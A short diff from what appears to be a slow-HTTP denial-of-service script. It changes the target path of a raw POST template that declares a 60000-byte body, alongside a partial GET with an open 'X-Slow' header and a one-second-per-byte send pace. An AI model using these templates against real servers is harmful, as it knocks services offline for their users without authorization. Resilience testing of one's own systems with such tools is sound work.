@@ -9,7 +9,7 @@ from urllib.parse import urlsplit
 
 HEAD = b"GET /en/ HTTP/1.1\r\nHost: {name}\r\nX-Slow: "
 BODY = (
-    b"POST /admin/login/ HTTP/1.1\r\nHost: {name}\r\nContent-Length: 60000\r\n"
+    b"POST /admin/account/login/ HTTP/1.1\r\nHost: {name}\r\nContent-Length: 60000\r\n"
     b"Content-Type: application/x-www-form-urlencoded\r\n\r\n"
 )
 PACE = 1  # seconds from byte to byte
